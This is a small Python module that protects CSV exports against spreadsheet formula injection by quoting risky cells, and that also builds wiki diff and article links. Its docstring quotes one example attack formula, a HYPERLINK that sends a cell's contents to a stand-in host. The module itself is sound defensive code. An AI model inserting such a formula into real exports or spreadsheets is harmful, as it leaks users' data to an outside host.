"""Pure: a text cell made safe for spreadsheet programs (CSV injection, OWASP); the links
an export gives (diff and article URLs from a wiki's API URL).

A CSV cell that starts with `=`, `+`, `-` or `@` is run as a formula by Excel, LibreOffice
and Google Sheets; a tab or carriage return first hides such a start. Edit summaries and page
titles are anyone's text (`=HYPERLINK("https://evil.example/?"&A1,"click") #1Lib1Ref`), so
such a cell is prefixed with a single quote, as the OWASP guidance on CSV injection says:
the spreadsheet then shows the text, starting with the quote, and runs nothing.
"""

from __future__ import annotations

from urllib.parse import quote

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    """`text` with a `'` prefixed when a spreadsheet would read it as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def index_url(api: str) -> str:
    """The wiki's `index.php` beside its `api.php` (`https://en.wikipedia.org/w/index.php`)."""
    base, _, _ = api.rpartition("/")
    return f"{base}/index.php"


def diff_url(index: str, revid: int) -> str:
    """The diff of revision `revid` against its parent ("" without a known wiki)."""
    return f"{index}?diff={int(revid):d}" if index else ""


def article_url(index: str, title: str) -> str:
    """The page `title` on the wiki of `index` ("" without a known wiki)."""
    return f"{index}?title={quote(title.replace(' ', '_'), safe='/:')}" if index else ""
